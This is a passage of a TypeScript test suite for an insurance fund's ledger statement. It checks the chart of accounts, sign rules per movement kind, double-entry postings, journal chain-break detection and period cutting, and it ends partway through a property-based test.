import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  buildStatement,
  CONTRA_ACCOUNTS,
  CUT_START,
  chainBreaks,
  chartProblem,
  closedByTime,
  cutPage,
  endGap,
  FUND_CHART,
  FUND_KINDS,
  givenBackProblem,
  givesBack,
  indexLagging,
  movedByItsPlan,
  PERIOD_RULE,
  type Period,
  plansMovedOf,
  postingsOf,
  SETTLED_AFTER_MS,
  STACK_KINDS,
  type StatementEntry,
  StatementError,
  signProblem,
} from '../../shared/domain/fund-statement.ts';
import { usd } from '../../shared/domain/units.ts';
import type { PlannedMovement } from '../../shared/domain/waterfall.ts';
import { CLI_AWS_TIMEOUTS } from '../../shared/local/deployment.ts';
import { SHORTFALL_PAYOUT_KIND } from '../../shared/ports/index.ts';
import { adminRequestSchema } from '../../shared/services/admin.ts';
import { LATE_DELIVERY_MS } from '../../shared/services/liquidation.ts';
import { FUNCTIONS } from '../../shared/topology.ts';

/** The fund's statement for a period (`backstop fund statement`): postings, totals, the chain, the period's cut. Pure. */

const FUND = 'insurance-fund';

/** A journal chained from 0, entry n stamped at `atMs[n - 1]` (default n). */
function journal(
  moves: readonly (readonly [kind: string, amount: string])[],
  atMs: readonly number[] = [],
): StatementEntry[] {
  let balance = 0n;
  return moves.map(([kind, amount], i) => {
    const a = usd(amount);
    const entry = {
      account: FUND,
      idempotencyKey: `k${i + 1}`,
      amount: a,
      balanceBefore: balance,
      balanceAfter: balance + a,
      kind,
      reference: `r${i + 1}`,
      atMs: atMs[i] ?? i + 1,
      sequence: i + 1,
    };
    balance += a;
    return entry;
  });
}

/** The whole of `entries` cut by `period` at once, as pages of `page`. */
function cut(entries: readonly StatementEntry[], period: Period, page = 2) {
  let state = CUT_START;
  const inPeriod: StatementEntry[] = [];
  for (let i = 0; i < entries.length; i += page) {
    const step = cutPage(state, entries.slice(i, i + page), period);
    state = step.state;
    inPeriod.push(...step.inPeriod);
  }
  return { state, inPeriod };
}

const posting = (p: ReturnType<typeof postingsOf>[number]) => [p.account, p.side, p.amount];

describe('the chart of accounts', () => {
  it('names every kind a stack writes: the waterfall movements, shortfall payouts and the admin moves', () => {
    const waterfall: Record<PlannedMovement['kind'], true> = {
      'liquidation-fee': true,
      'shortfall-payout': true,
    };
    for (const kind of [...Object.keys(waterfall), SHORTFALL_PAYOUT_KIND, 'deposit', 'withdraw'])
      expect(STACK_KINDS).toContain(kind);
    expect(CONTRA_ACCOUNTS).toEqual(['fees:liquidation', 'bad-debt:shortfall', 'treasury']);
    expect(FUND_CHART.deposit.contra).toBe(FUND_CHART.withdraw.contra);
  });

  // books52-uncharted-kind: the simulation's opening balance was a kind the chart did not name.
  it("charts the simulation's fund-start as an opening balance, listed only in a period that holds one", () => {
    expect(FUND_KINDS).toEqual([...STACK_KINDS, 'fund-start']);
    expect(FUND_CHART['fund-start']).toMatchObject({ contra: 'equity:opening-balance', moves: 'in' });
    const [start, fee] = journal([
      ['fund-start', '100'],
      ['liquidation-fee', '2'],
    ]);
    expect(postingsOf(start!).map(posting)).toEqual([
      [FUND, 'debit', usd('100')],
      ['equity:opening-balance', 'credit', usd('100')],
    ]);
    const opened = buildStatement({ account: FUND, entries: [start!, fee!] });
    expect(opened.kinds.map((k) => k.kind)).toEqual([...STACK_KINDS, 'fund-start']);
    expect(opened.accounts.map((a) => a.account)).toEqual([
      FUND,
      ...CONTRA_ACCOUNTS,
      'equity:opening-balance',
    ]);
    expect(opened.totals).toEqual({ debit: usd('102'), credit: usd('102') });
    // A stack's period never holds one: its statement names neither.
    const stack = buildStatement({
      account: FUND,
      entries: [fee!],
      before: { start: true, sequence: 1, balanceAfter: usd('100') },
    });
    expect(stack.kinds.map((k) => k.kind)).toEqual(STACK_KINDS);
    expect(stack.accounts.map((a) => a.account)).toEqual([FUND, ...CONTRA_ACCOUNTS]);
  });

  it('refuses an entry of a kind it does not name, naming the entry, never booked to an "other"', () => {
    for (const kind of ['fee', 'toString', '__proto__', '']) {
      const [entry] = journal([[kind, '1']]);
      expect(() => postingsOf(entry!)).toThrow(StatementError);
      expect(() => buildStatement({ account: FUND, entries: [entry!] })).toThrow(
        `statement/unknown-kind: entry 1 (key k1) has kind ${JSON.stringify(kind)}`,
      );
    }
  });
});

// books51-sign-against-kind: a deposit of a negative amount, a withdrawal of a positive one, were booked as given.
describe('the sign each kind moves the fund', () => {
  it.each([
    // What the services write: a fee charged, and given back only by a plan made again (its key's `:r<n>`).
    ['liquidation-fee', 'p:0:fee', '10', true],
    ['liquidation-fee', 'p:0:fee:r1', '-3', true],
    ['liquidation-fee', 'p:0:fee:r12', '4', true],
    ['liquidation-fee', 'p:0:fee', '-3', false],
    ['liquidation-fee', 'p:0:fee:rx', '-3', false],
    // A draw, and one given back by a plan made again.
    ['shortfall-payout', 'p:0:shortfall', '-50', true],
    ['shortfall-payout', 'p:0:shortfall:r2', '5', true],
    ['shortfall-payout', 'p:0:shortfall:r2', '-5', true],
    ['shortfall-payout', 'p:0:shortfall', '5', false],
    ['shortfall-payout', 'p:0:shortfall:r1:x', '5', false],
    // The operator's: one way each, whatever the key.
    ['deposit', 'admin:d', '100', true],
    ['deposit', 'admin:d', '-0.000001', false],
    ['deposit', 'admin:d:r1', '-1', false],
    ['withdraw', 'admin:w', '-100', true],
    ['withdraw', 'admin:w', '0.000001', false],
    ['withdraw', 'admin:w:r1', '1', false],
  ] as const)('%s under key %s of %s: booked %s', (kind, idempotencyKey, amount, booked) => {
    const problem = signProblem({ kind, idempotencyKey, amount: usd(amount) });
    if (booked) expect(problem).toBeUndefined();
    else
      expect(problem).toMatch(
        new RegExp(`^${kind} of [-+][\\d.,]+ under key ${idempotencyKey}: kind ${kind} `),
      );
  });

  it('says which way the kind moves, and the one way back where there is one; 0 moves nothing either way', () => {
    expect(signProblem({ kind: 'deposit', idempotencyKey: 'admin:d', amount: usd('-5') })).toBe(
      'deposit of -5.00 under key admin:d: kind deposit raises the fund, never lowers it',
    );
    expect(signProblem({ kind: 'shortfall-payout', idempotencyKey: 'p:0:shortfall', amount: usd('2') })).toBe(
      'shortfall-payout of +2.00 under key p:0:shortfall: kind shortfall-payout lowers the fund, and raises it only ' +
        'as a draw given back by a settlement planned again (its key ending :r<n>)',
    );
    for (const kind of FUND_KINDS)
      expect(signProblem({ kind, idempotencyKey: 'k', amount: 0n })).toBeUndefined();
    // A kind the chart does not name is chartProblem's.
    expect(signProblem({ kind: 'fee', idempotencyKey: 'k', amount: usd('-1') })).toBeUndefined();
  });

  it("a journal entry's problem names its sequence and kind: a kind not charted, or a sign against its kind", () => {
    for (const kind of ['fee', 'toString', '__proto__', ''])
      expect(chartProblem({ sequence: 7, kind, idempotencyKey: 'k7', amount: usd('1') }, undefined)).toBe(
        `entry 7 (key k7): kind ${JSON.stringify(kind)} is not in the fund's chart of accounts (liquidation-fee, ` +
          'shortfall-payout, deposit, withdraw, fund-start): written by another version or by hand; `fund statement` refuses it',
      );
    expect(
      chartProblem({ sequence: 8, kind: 'withdraw', idempotencyKey: 'admin:w', amount: usd('3') }, undefined),
    ).toBe('entry 8: withdraw of +3.00 under key admin:w: kind withdraw lowers the fund, never raises it');
    expect(
      chartProblem(
        { sequence: 9, kind: 'withdraw', idempotencyKey: 'admin:w', amount: usd('-3') },
        undefined,
      ),
    ).toBe(undefined);
  });

  // books52-given-back-proved: a key ending `:r<n>` excused any fee lowering the fund or draw raising it.
  it('takes a fee or a draw given back only within what its plan moved before it, whichever of its keys moved it', () => {
    const entry = (sequence: number, idempotencyKey: string, kind: string, amount: string) => ({
      sequence,
      idempotencyKey,
      kind,
      amount: usd(amount),
    });
    const plan = [
      entry(1, 'p:0:shortfall:r1', 'shortfall-payout', '-10'),
      entry(2, 'p:0:fee', 'liquidation-fee', '3'),
      entry(3, 'p:0:shortfall:r2', 'shortfall-payout', '4'),
      entry(4, 'p:0:fee:r2', 'liquidation-fee', '-3'),
      // Another plan key, and another kind under this one: not this plan's.
      entry(5, 'p:0:shortfall2', 'shortfall-payout', '-50'),
      entry(6, 'p:0:shortfall:r3', 'liquidation-fee', '-50'),
    ];
    expect(givesBack(plan[2]!)).toBe(true);
    expect(givesBack(plan[0]!)).toBe(false);
    expect(movedByItsPlan(plan[2]!, plan)).toBe(usd('-10'));
    // Judged as written (before it), or as a movement to write (all there is).
    expect(movedByItsPlan({ idempotencyKey: 'p:0:shortfall:r9', kind: 'shortfall-payout' }, plan)).toBe(
      usd('-6'),
    );
    expect(movedByItsPlan({ ...plan[2]!, sequence: 1 }, plan)).toBe(0n);
    expect(givenBackProblem(plan[2]!, usd('-10'))).toBeUndefined();
    expect(givenBackProblem(plan[3]!, usd('3'))).toBeUndefined();
    expect(chartProblem(plan[2]!, usd('-4'))).toBeUndefined();
    expect(chartProblem(plan[2]!, usd('-3.999999'))).toBe(
      "entry 3: shortfall-payout of +4.00 under key p:0:shortfall:r2: kind shortfall-payout lowers the fund, and raises it only as a draw given back by a settlement planned again, at most what its plan's key p:0:shortfall moved before it (-3.999999)",
    );
    // An `x:r1` whose plan moved nothing: reported, not excused.
    expect(chartProblem(entry(9, 'x:fee:r1', 'liquidation-fee', '-1'), undefined)).toBe(
      "entry 9: liquidation-fee of -1.00 under key x:fee:r1: kind liquidation-fee raises the fund, and lowers it only as a fee given back by a settlement planned again, at most what its plan's key x:fee moved before it (nothing)",
    );
    // Only a give-back is judged on its plan: a fee charged, a draw, never.
    expect(givenBackProblem(plan[0]!, 0n)).toBeUndefined();
    expect(givenBackProblem(plan[1]!, usd('-100'))).toBeUndefined();
  });
});

describe('postingsOf: each entry twice, debit first, the fund an asset', () => {
  it.each([
    ['liquidation-fee', '10', [FUND, 'debit'], ['fees:liquidation', 'credit']],
    ['liquidation-fee', '-3', ['fees:liquidation', 'debit'], [FUND, 'credit']], // a fee given back on a replan
    ['shortfall-payout', '-50', ['bad-debt:shortfall', 'debit'], [FUND, 'credit']],
    ['shortfall-payout', '5', [FUND, 'debit'], ['bad-debt:shortfall', 'credit']], // a draw given back
    ['deposit', '100', [FUND, 'debit'], ['treasury', 'credit']],
    ['withdraw', '-40', ['treasury', 'debit'], [FUND, 'credit']],
    ['deposit', '0', [FUND, 'debit'], ['treasury', 'credit']], // nothing writes 0: it posts as money in
  ])('%s %s', (kind, amount, debit, credit) => {
    const [entry] = journal([[kind, amount]]);
    const size = usd(amount.replace('-', ''));
    const [first, second] = postingsOf(entry!);
    expect([posting(first), posting(second)]).toEqual([
      [...debit, size],
      [...credit, size],
    ]);
    expect([first.posting, second.posting]).toEqual([1, 2]);
  });
});

describe('buildStatement', () => {
  it('answers what the fund earned, paid and was moved by hand, with debits equal to credits', () => {
    const entries = journal([
      ['deposit', '1000'],
      ['liquidation-fee', '12.5'],
      ['shortfall-payout', '-200.25'],
      ['liquidation-fee', '-2.5'],
      ['shortfall-payout', '0.25'],
      ['withdraw', '-100'],
      ['liquidation-fee', '0.000001'],
    ]);
    const s = buildStatement({
      account: FUND,
      entries: entries.slice(1),
      before: entries[0]!,
    });
    expect(s).toMatchObject({
      entries: 6,
      firstSequence: 2,
      lastSequence: 7,
      opening: usd('1000'),
      movements: usd('-289.999999'),
      closing: usd('710.000001'),
      difference: 0n,
      breaks: [],
      reconciles: true,
    });
    expect(s.kinds).toEqual([
      {
        kind: 'liquidation-fee',
        contra: 'fees:liquidation',
        entries: 3,
        in: usd('12.500001'),
        out: usd('2.5'),
        net: usd('10.000001'),
      },
      {
        kind: 'shortfall-payout',
        contra: 'bad-debt:shortfall',
        entries: 2,
        in: usd('0.25'),
        out: usd('200.25'),
        net: usd('-200'),
      },
      { kind: 'deposit', contra: 'treasury', entries: 0, in: 0n, out: 0n, net: 0n },
      { kind: 'withdraw', contra: 'treasury', entries: 1, in: 0n, out: usd('100'), net: usd('-100') },
    ]);
    expect(s.accounts).toEqual([
      { account: FUND, debit: usd('12.750001'), credit: usd('302.75') },
      { account: 'fees:liquidation', debit: usd('2.5'), credit: usd('12.500001') },
      { account: 'bad-debt:shortfall', debit: usd('200.25'), credit: usd('0.25') },
      { account: 'treasury', debit: usd('100'), credit: 0n },
    ]);
    expect(s.totals).toEqual({ debit: usd('315.500001'), credit: usd('315.500001') });
    // The fund's own debits less credits is its movement.
    expect(s.accounts[0]!.debit - s.accounts[0]!.credit).toBe(s.movements);
  });

  it('an empty period opens and closes at the balance after the entry before it, and at 0 at the start', () => {
    const [entry] = journal([['deposit', '5']]);
    expect(buildStatement({ account: FUND, entries: [], before: entry! })).toMatchObject({
      entries: 0,
      opening: usd('5'),
      closing: usd('5'),
      movements: 0n,
      reconciles: true,
    });
    expect(
      buildStatement({ account: FUND, entries: [], before: { start: true, sequence: 0, balanceAfter: 0n } }),
    ).toMatchObject({ opening: 0n, closing: 0n, reconciles: true });
    // Nothing known before it (a --from-sequence past the journal's end): no balance, nothing to break.
    const unknown = buildStatement({ account: FUND, entries: [], before: { start: true, sequence: 7 } });
    expect(unknown.opening).toBeUndefined();
    expect(unknown.reconciles).toBe(true);
  });

  it('refuses an entry of another account', () => {
    const [entry] = journal([['deposit', '5']]);
    expect(() => buildStatement({ account: 'other', entries: [entry!] })).toThrow(
      'statement/other-account: entry 1 (key k1) is of account insurance-fund, not other',
    );
  });
});

describe('chainBreaks: each break named, with its amount', () => {
  const base = journal([
    ['deposit', '100'],
    ['liquidation-fee', '10'],
    ['shortfall-payout', '-30'],
    ['liquidation-fee', '5'],
    ['deposit', '1'],
  ]);

  it('a gap: the entries missing, and the balance they moved', () => {
    const breaks = chainBreaks(base[0], [base[1]!, base[3]!, base[4]!]);
    expect(breaks).toEqual([
      {
        type: 'gap',
        sequence: 4,
        previous: 2,
        amount: usd('-30'),
        missing: { from: 3, to: 3 },
        message:
          'entry 3 missing between entry 2 and entry 4: balance 110.00 after entry 2, 80.00 before entry 4, -30.00 not in this statement',
      },
    ]);
    // Just before the period's first entry: of the period before, or of this one.
    expect(chainBreaks(base[1], [base[3]!]).map((b) => b.message)).toEqual([
      'entry 3 missing between entry 2, the last before the period, and entry 4, its first (of this period or the one before, unknown): balance 110.00 after entry 2, 80.00 before entry 4, -30.00 not in this statement',
    ]);
    const from = buildStatement({ account: FUND, entries: [base[1]!, base[3]!, base[4]!], before: base[0]! });
    expect(from).toMatchObject({ reconciles: false, difference: usd('-30') });
  });

  it('a balanceBefore that is not the previous balanceAfter (a balance item written outside the journal)', () => {
    const moved = {
      ...base[3]!,
      balanceBefore: base[3]!.balanceBefore + usd('7'),
      balanceAfter: base[3]!.balanceAfter + usd('7'),
    };
    expect(
      chainBreaks(base[2], [
        moved,
        { ...base[4]!, balanceBefore: moved.balanceAfter, balanceAfter: moved.balanceAfter + usd('1') },
      ]),
    ).toEqual([
      {
        type: 'chain',
        sequence: 4,
        previous: 3,
        amount: usd('7'),
        message: "entry 4: balanceBefore 87.00 != entry 3's balanceAfter 80.00 (+7.00)",
      },
    ]);
  });

  it('a balanceAfter off balanceBefore + amount, and an entry twice', () => {
    const off = { ...base[1]!, balanceAfter: base[1]!.balanceAfter - 1n };
    const twice = { ...base[1]!, idempotencyKey: 'again' };
    expect(chainBreaks(base[0], [off]).map((b) => b.message)).toEqual([
      'entry 2: balanceAfter 109.999999 != balanceBefore 100.00 + amount 10.00 (-0.000001)',
    ]);
    expect(chainBreaks(base[0], [base[1]!, twice])).toEqual([
      {
        type: 'duplicate',
        sequence: 2,
        previous: 2,
        message: 'entry 2 appears twice (keys k2 and again): a movement the balance counted once at most',
      },
    ]);
  });

  it("the journal's start: entry 1 from 0, entries before the first missing", () => {
    const start = { start: true, sequence: 0, balanceAfter: 0n } as const;
    expect(chainBreaks(start, base)).toEqual([]);
    expect(chainBreaks(start, base.slice(2)).map((b) => [b.type, b.amount, b.message])).toEqual([
      [
        'gap',
        usd('110'),
        "entries 1 to 2 missing: the journal's first entry is 3 (balance 110.00 before it: +110.00 in no statement)",
      ],
    ]);
    const fromFive = { ...base[0]!, balanceBefore: usd('5'), balanceAfter: usd('105') };
    expect(chainBreaks(start, [fromFive]).map((b) => [b.type, b.message])).toEqual([
      ['start', "entry 1: balanceBefore 5.00, where the fund's first entry begins from 0 (+5.00)"],
    ]);
  });

  it('the entry before a period by sequence missing: the opening is not checked', () => {
    // --from-sequence 4: the read begins after entry 2, and entry 3 is not there.
    expect(chainBreaks({ start: true, sequence: 2 }, base.slice(3)).map((b) => [b.type, b.message])).toEqual([
      [
        'gap',
        "entry 3 missing just before the period's first entry 4: its opening balance is not checked against the entry before it",
      ],
    ]);
  });

  it('entries missing before the first entry past the period: of this period or the next, unknown', () => {
    expect(chainBreaks(base[0], [base[1]!], base[4]).map((b) => b.message)).toEqual([
      'entries 3 to 4 missing between entry 2 and entry 5, the first past the period: of this period or the next, unknown (balance 110.00 after entry 2, 85.00 before entry 5: -25.00 in neither statement)',
    ]);
    // The next entry's own chain is the next period's start.
    expect(chainBreaks(base[0], [base[1]!], { ...base[2]!, balanceBefore: 0n })).toEqual([]);
  });

  // statement48-end-gap-to-sequence: with --to-sequence 3 and the balance at entry 5, entries 3 to 5 were named, and
  // -29.00 (what entries 3 to 5 moved) as the period's.
  it("an end gap with --to-sequence: the entries up to the period's end, what they moved measured to it", () => {
    const atEnd = (through: number | undefined, sequence = 5) =>
      buildStatement({
        account: FUND,
        entries: base.slice(0, 2),
        before: { start: true, sequence: 0, balanceAfter: 0n },
        journalEnd: {
          sequence,
          balance: base[sequence - 1]!.balanceAfter,
          ...(through === undefined ? {} : { through }),
        },
      }).breaks;
    expect(atEnd(3)).toEqual([
      {
        type: 'gap',
        sequence: 3,
        previous: 2,
        missing: { from: 3, to: 3 },
        message:
          "entry 3 missing at the journal's end: the fund's balance, read before the journal, counts it (it is at entry 5, past the period's last: what it moved is unknown) and the journal's index by sequence does not list it (of this period, which ends at entry 3)",
      },
    ]);
    // The balance at the period's end: what they moved is known.
    expect(atEnd(4, 4).map((b) => [b.missing, b.amount, b.message])).toEqual([
      [
        { from: 3, to: 4 },
        usd('-25'),
        "entries 3 to 4 missing at the journal's end: the fund's balance, read before the journal, counts them (it is at entry 4, -25.00 from entry 2) and the journal's index by sequence does not list them (of this period, which ends at entry 4)",
      ],
    ]);
    // The balance short of the period's end: to the balance.
    expect(atEnd(9, 4).map((b) => [b.missing, b.amount])).toEqual([[{ from: 3, to: 4 }, usd('-25')]]);
    // Without an end by sequence, as before: to the balance, of this period or a later one.
    expect(atEnd(undefined).map((b) => [b.sequence, b.amount])).toEqual([[5, usd('-24')]]);
  });

  // statement48-index-lag: a gap the index still did not list when read again was said missing, as one the journal lost.
  it("a gap the balance counts and no look finds left out of the index: the index's lag, said as such", () => {
    const breaks = [
      ...chainBreaks(base[0], [base[1]!, base[3]!]),
      ...chainBreaks(base[3], [{ ...base[4]!, balanceBefore: 0n, balanceAfter: usd('1') }]),
    ];
    const judged = indexLagging(breaks, 4);
    expect(judged.map((b) => b.type)).toEqual(['lagging', 'chain']);
    expect(judged[0]).toEqual({
      ...breaks[0],
      type: 'lagging',
      message:
        "index lagging: entry 3 missing between entry 2 and entry 4: balance 110.00 after entry 2, 80.00 before entry 4, -30.00 not in this statement; the fund's balance (at entry 4) counts it and no look finds it left out of the index, which lists new entries a moment late: run the statement again in a minute (still not listed then: missing)",
    });
    // Entries the balance does not count (past it, or a balance set back): missing, not late.
    expect(indexLagging(breaks, 2).map((b) => b.type)).toEqual(['gap', 'chain']);
  });
});

// statement48-closed-by-time: a period by time whose end passed, read to the journal's end, said `open` however long
// after: a fund that had not moved since its end never closed its month.
describe('closedByTime: a period by time closes once nothing stamped before its end can commit', () => {
  const END = Date.UTC(2026, 1, 1);
  const byTime = { from: undefined, to: { atMs: END } };

  it('its end SETTLED_AFTER_MS past when the balance was read, the journal read to the balance', () => {
    expect(closedByTime(byTime, END + SETTLED_AFTER_MS, 6, 6)).toBe(true);
    expect(closedByTime(byTime, END + SETTLED_AFTER_MS - 1, 6, 6)).toBe(false);
    // Entries the balance counts past the last read (the index's lag): one may be the period's.
    expect(closedByTime(byTime, END + SETTLED_AFTER_MS, 7, 6)).toBe(false);
    // An empty journal: nothing before the end, nothing can join it.
    expect(closedByTime(byTime, END + SETTLED_AFTER_MS, 0, 0)).toBe(true);
    // By sequence: only once its last entry is read (a later one may yet be written).
    expect(closedByTime({ from: undefined, to: { sequence: 9 } }, END + SETTLED_AFTER_MS, 6, 6)).toBe(false);
    expect(closedByTime({ from: undefined, to: undefined }, END + SETTLED_AFTER_MS, 6, 6)).toBe(false);
    // From a sequence the journal has not reached: the entry before the period is still to come (its balance opens it).
    const fromSequence = (n: number) => ({ from: { sequence: n }, to: { atMs: END } });
    expect(closedByTime(fromSequence(7), END + SETTLED_AFTER_MS, 6, 6)).toBe(true);
    expect(closedByTime(fromSequence(8), END + SETTLED_AFTER_MS, 6, 6)).toBe(false);
  });

  it('waits out what may still commit: a late settlement, the functions that write the ledger, twice', () => {
    const seconds = (id: string) => FUNCTIONS.find((f) => f.id === id)!.timeoutSeconds * 1000;
    const writers = FUNCTIONS.filter((f) =>
      f.grants.some((g) => g.table === 'ledger' && g.access !== 'read'),
    );
    expect(writers.map((f) => f.id)).toEqual(
      expect.arrayContaining(['liquidationConsumer', 'auction', 'admin']),
    );
    for (const f of writers) expect(SETTLED_AFTER_MS).toBeGreaterThanOrEqual(2 * f.timeoutSeconds * 1000);
    for (const settles of ['liquidationConsumer', 'auction'])
      expect(SETTLED_AFTER_MS).toBeGreaterThanOrEqual(2 * (LATE_DELIVERY_MS + seconds(settles)));
    // `fund deposit|withdraw` runs in the operator's CLI, not the admin function: the SDK's 3 attempts of its calls.
    const cliWrite = 3 * (CLI_AWS_TIMEOUTS.connectionMs + CLI_AWS_TIMEOUTS.requestMs);
    expect(SETTLED_AFTER_MS).toBeGreaterThanOrEqual(2 * cliWrite);
  });
});

describe('cutPage: a period by time is a range of entries by sequence', () => {
  const T = 1_000;
  // Stamps not in sequence order, as a redelivered plan or an operator's clock leaves them.
  const entries = journal(
    [
      ['deposit', '100'], // 1: before
      ['liquidation-fee', '1'], // 2: the first stamped at or after --from
      ['liquidation-fee', '2'], // 3: stamped before --from, written after 2
      ['liquidation-fee', '3'], // 4: stamped exactly at --to: the first past the period
      ['liquidation-fee', '4'], // 5: stamped before --to, written after 4: the next period's
      ['liquidation-fee', '5'], // 6
    ],
    [T - 5, T, T - 1, 2 * T, 2 * T - 1, 3 * T],
  );

  it('begins at the first entry stamped at or after --from, ends before the first stamped at or after --to', () => {
    const period = { from: { atMs: T }, to: { atMs: 2 * T } };
    for (const page of [1, 2, 6]) {
      const { state, inPeriod } = cut(entries, period, page);
      expect(inPeriod.map((e) => e.sequence)).toEqual([2, 3]);
      expect(state).toMatchObject({ phase: 'after', before: { sequence: 1 }, next: { sequence: 4 } });
    }
    const s = buildStatement({
      account: FUND,
      entries: cut(entries, period).inPeriod,
      before: entries[0]!,
      fromMs: T,
    });
    expect(s.stampedBefore).toEqual([3]);
  });

  it('names the deposits and withdrawals that name nobody, and no other entry (audit50-statement-unnamed-movements)', () => {
    const moves = journal([
      ['deposit', '10'],
      ['deposit', '10'],
      ['withdraw', '-1'],
      ['withdraw', '-1'],
      ['liquidation-fee', '1'],
      ['deposit', '1'],
    ]);
    const named = (e: StatementEntry, actor: string) => ({ ...e, actor });
    const entries = [
      named(moves[0]!, 'arn:aws:sts::1:assumed-role/treasury/jane'),
      moves[1]!,
      named(moves[2]!, 'arn:aws:iam::1:user/joe'),
      moves[3]!,
      moves[4]!,
      named(moves[5]!, ''),
    ];
    expect(buildStatement({ account: FUND, entries }).unnamed).toEqual([2, 4, 6]);
  });

  // last50-statement-blank-actor: an actor of whitespace alone names nobody either; it was taken as a name.
  it('names a deposit or withdrawal whose actor is blank (whitespace alone) as naming nobody', () => {
    const moves = journal([
      ['deposit', '10'],
      ['withdraw', '-1'],
      ['deposit', '1'],
    ]);
    const entries = [
      { ...moves[0]!, actor: ' ' },
      { ...moves[1]!, actor: '\t\n' },
      { ...moves[2]!, actor: ' arn:aws:iam::1:user/joe ' },
    ];
    expect(buildStatement({ account: FUND, entries }).unnamed).toEqual([1, 2]);
  });

  // review51-books-statement-against-kind: an entry against its kind (written by hand: the ledger refuses one) was
  // booked as its kind's movement the other way, the statement saying nothing; ledger-reconcile had paged for it once.
  it('names the entries that move the fund against their kind, not a fee or draw given back under :r<n>', () => {
    const moves = journal([
      ['deposit', '100'],
      ['deposit', '-1'],
      ['withdraw', '2'],
      ['liquidation-fee', '-3'],
      ['liquidation-fee', '-3'],
      ['shortfall-payout', '4'],
      ['shortfall-payout', '4'],
      ['withdraw', '-5'],
      ['liquidation-fee', '0'],
    ]);
    const keyed = (e: StatementEntry, idempotencyKey: string) => ({ ...e, idempotencyKey });
    const entries = moves.map((e) =>
      e.sequence === 5 ? keyed(e, 'p:0:fee:r1') : e.sequence === 7 ? keyed(e, 'p:0:shortfall:r2') : e,
    );
    // What each give-back's plan moved before it (its liquidation's entries, read by the statement's service).
    const plansMoved = new Map([
      [5, usd('3')],
      [7, usd('-4')],
    ]);
    const s = buildStatement({ account: FUND, entries, plansMoved });
    expect(s.againstKind).toEqual([2, 3, 4, 6]);
    // Booked all the same, as the ledger wrote them: a deposit's out, a withdrawal's in.
    expect(s.kinds.find((k) => k.kind === 'deposit')).toMatchObject({ in: usd('100'), out: usd('1') });
    expect(s.kinds.find((k) => k.kind === 'withdraw')).toMatchObject({ in: usd('2'), out: usd('5') });
    expect(
      buildStatement({ account: FUND, entries: entries.filter((e) => e.sequence >= 5), plansMoved })
        .againstKind,
    ).toEqual([6]);
    // books52-given-back-proved: a give-back whose plan moved less, or nothing (an `x:r1` by hand), is named.
    expect(
      buildStatement({ account: FUND, entries, plansMoved: new Map([[5, usd('2.999999')]]) }).againstKind,
    ).toEqual([2, 3, 4, 5, 6, 7]);
  });

  it("judges a period's give-backs on their liquidations' entries (plansMovedOf), before each", () => {
    const keyed = (e: StatementEntry, idempotencyKey: string) => ({ ...e, idempotencyKey });
    const [fee, back, again] = journal([
      ['liquidation-fee', '5'],
      ['liquidation-fee', '-2'],
      ['liquidation-fee', '-4'],
    ]);
    const entries = [keyed(fee!, 'p:0:fee'), keyed(back!, 'p:0:fee:r1'), keyed(again!, 'p:0:fee:r2')];
    const moved = plansMovedOf(entries, entries);
    expect(moved).toEqual(
      new Map([
        [2, usd('5')],
        [3, usd('3')],
      ]),
    );
    expect(buildStatement({ account: FUND, entries, plansMoved: moved }).againstKind).toEqual([3]);
  });

  // admin51-statement-invocations: a movement through the admin function journals its invocation id (CloudTrail names
  // who invoked it by that id): it names someone to look up, and is listed with its declared operator.
  it('takes a deposit or withdrawal with an invocation id as named, and lists it with its declared operator', () => {
    const moves = journal([
      ['deposit', '10'],
      ['withdraw', '-1'],
      ['deposit', '1'],
      ['withdraw', '-1'],
      ['liquidation-fee', '1'],
    ]);
    const entries = [
      { ...moves[0]!, invocationId: 'req-1', declaredOperator: 'jane' },
      { ...moves[1]!, invocationId: 'req-2' },
      // Blank: no invocation to look up.
      { ...moves[2]!, invocationId: ' ', declaredOperator: 'joe' },
      // A declared operator alone is the request's word: it names nobody.
      { ...moves[3]!, declaredOperator: 'joe' },
      { ...moves[4]!, invocationId: 'req-5' },
    ];
    const s = buildStatement({ account: FUND, entries });
    expect(s.unnamed).toEqual([3, 4]);
    expect(s.invoked).toEqual([
      { sequence: 1, invocationId: 'req-1', declaredOperator: 'jane' },
      { sequence: 2, invocationId: 'req-2' },
    ]);
  });

  it('tiles: consecutive periods share their edge, each entry in one, each closing the next opening', () => {
    const first = cut(entries, { from: { atMs: T }, to: { atMs: 2 * T } });
    const second = cut(entries, { from: { atMs: 2 * T }, to: { atMs: 3 * T } });
    expect(second.inPeriod.map((e) => e.sequence)).toEqual([4, 5]);
    expect(second.state.before?.sequence).toBe(3);
    const a = buildStatement({ account: FUND, entries: first.inPeriod, before: first.state.before! });
    const b = buildStatement({ account: FUND, entries: second.inPeriod, before: second.state.before! });
    expect(a.closing).toBe(b.opening);
  });

  it('an empty period: its first entry from --from on is already past --to', () => {
    const { state, inPeriod } = cut(entries, { from: { atMs: 2 * T - 10 }, to: { atMs: 2 * T - 5 } });
    expect(inPeriod).toEqual([]);
    expect(state).toMatchObject({ phase: 'after', before: { sequence: 3 }, next: { sequence: 4 } });
  });

  it('by sequence: from the entry, to the entry included; and mixed, a sequence to a time', () => {
    expect(
      cut(entries, { from: { sequence: 2 }, to: { sequence: 4 } }).inPeriod.map((e) => e.sequence),
    ).toEqual([2, 3, 4]);
    expect(
      cut(entries, { from: { sequence: 3 }, to: { atMs: 2 * T } }).inPeriod.map((e) => e.sequence),
    ).toEqual([3]);
    expect(cut(entries, { from: undefined, to: undefined }).inPeriod).toHaveLength(6);
  });

  it('a start by time past --to-sequence: empty, ending at that sequence, not at the first entry stamped from --from on', () => {
    // The first entry stamped at or after 3T is entry 6: nothing up to entry 3 is, the period is empty, entry 4 past it.
    for (const page of [1, 2, 6]) {
      const { state, inPeriod } = cut(entries, { from: { atMs: 3 * T }, to: { sequence: 3 } }, page);
      expect(inPeriod).toEqual([]);
      expect(state).toMatchObject({ phase: 'after', before: { sequence: 3 }, next: { sequence: 4 } });
    }
    // A start by sequence before the end never is: the entries before it are not past --to-sequence.
    expect(
      cut(entries, { from: { sequence: 3 }, to: { sequence: 3 } }).inPeriod.map((e) => e.sequence),
    ).toEqual([3]);
  });

  it('property: periods cut at increasing times partition any journal and chain their balances', () => {
    const move = fc.record({
      kind: fc.constantFrom(...FUND_KINDS),
      cents: fc.integer({ min: -10_000, max: 10_000 }),
      atMs: fc.integer({ min: 0, max: 100 }),
    });
    fc.assert(
      fc.property(
        fc.array(move, { maxLength: 40 }),
